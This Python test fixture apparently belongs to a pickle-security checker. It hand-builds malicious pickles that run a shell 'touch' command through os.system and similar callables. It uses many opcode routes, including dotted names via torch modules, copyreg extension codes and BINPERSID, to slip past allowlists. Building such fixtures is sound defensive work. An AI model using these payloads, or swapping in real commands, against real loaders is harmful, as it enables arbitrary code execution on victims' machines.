"""Hand-assembled pickles that run `touch MARKER` through every way a pickle names a callable."""

from __future__ import annotations

import copyreg
import struct
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

#: extension-registry codes the EXT1/EXT2/EXT4 payloads use (registered only while testing),
#: each for a callable that runs a shell command
EXT_CODES = {"EXT1": 0xF1, "EXT2": 0xF1F2, "EXT4": 0x0BADF00D}
_EXT_TARGETS = {
    "EXT1": ("os", "system"),
    "EXT2": ("posix", "system"),
    "EXT4": ("subprocess", "getoutput"),
}


def _s(text: str) -> bytes:
    """SHORT_BINUNICODE: push a str (protocol 4)."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _stack_global(module: str, name: str) -> bytes:
    return _s(module) + _s(name) + b"\x93"


def _call(marker: Path) -> bytes:
    """MARK, the command as a protocol-0 STRING, TUPLE, REDUCE: call what is on the stack."""
    return b"(S'touch " + str(marker).encode() + b"'\ntR"


def _cmd(marker: Path) -> bytes:
    return b"S'touch " + str(marker).encode() + b"'\n"


PROTO4 = b"\x80\x04"
PROTO2 = b"\x80\x02"


def _payloads() -> dict[str, Callable[[Path], bytes]]:
    tdcp = "torch.distributed.checkpoint.metadata"
    return {
        "GLOBAL": lambda m: _global("os", "system") + _call(m) + b".",
        "GLOBAL protocol 2": lambda m: PROTO2 + _global("os", "system") + _call(m) + b".",
        "STACK_GLOBAL": lambda m: PROTO4 + _stack_global("os", "system") + _call(m) + b".",
        "INST": lambda m: b"(" + _cmd(m) + b"ios\nsystem\n.",
        "OBJ": lambda m: b"(" + _global("os", "system") + _cmd(m) + b"o.",
        # REDUCE through a global that is harmless alone: getattr(<os module>, "system")
        "builtins.getattr REDUCE": lambda m: (
            (_global("builtins", "getattr") + b"(" + _global(tdcp, "os") + b"S'system'\ntR")
            + _call(m)
            + b"."
        ),
        # dotted names resolve attribute by attribute from protocol 4 on
        "dotted torch.distributed.checkpoint.metadata os.system": lambda m: (
            PROTO4 + _stack_global(tdcp, "os.system") + _call(m) + b"."
        ),
        "dotted GLOBAL torch.distributed.checkpoint os.system": lambda m: (
            (PROTO4 + _global("torch.distributed.checkpoint", "filesystem.os.system") + _call(m))
            + b"."
        ),
        "dotted pathlib os.system": lambda m: (
            PROTO4 + _stack_global("pathlib", "os.system") + _call(m) + b"."
        ),
        "dotted os path.os.system, os.path.join style": lambda m: (
            PROTO4 + _stack_global("os", "path.os.system") + _call(m) + b"."
        ),
        "dotted module chain torch.serialization.os.system": lambda m: (
            PROTO4 + _stack_global(tdcp, "torch.serialization.os.system") + _call(m) + b"."
        ),
        "EXT1": lambda m: PROTO2 + b"\x82" + bytes([EXT_CODES["EXT1"]]) + _call(m) + b".",
        "EXT2": lambda m: PROTO2 + b"\x83" + struct.pack("<H", EXT_CODES["EXT2"]) + _call(m) + b".",
        "EXT4": lambda m: PROTO2 + b"\x84" + struct.pack("<i", EXT_CODES["EXT4"]) + _call(m) + b".",
        # the persistent id is built by REDUCE before persistent_load ever sees it
        "BINPERSID": lambda m: PROTO2 + _global("os", "system") + _call(m) + b"Q.",
    }


PAYLOADS = _payloads()


@contextmanager
def extension_codes() -> Iterator[None]:
    """Register shell-running callables under the EXT codes, as an imported library might."""
    for name, code in EXT_CODES.items():
        copyreg.add_extension(*_EXT_TARGETS[name], code)
    try:
        yield
    finally:
        for name, code in EXT_CODES.items():
            copyreg.remove_extension(*_EXT_TARGETS[name], code)
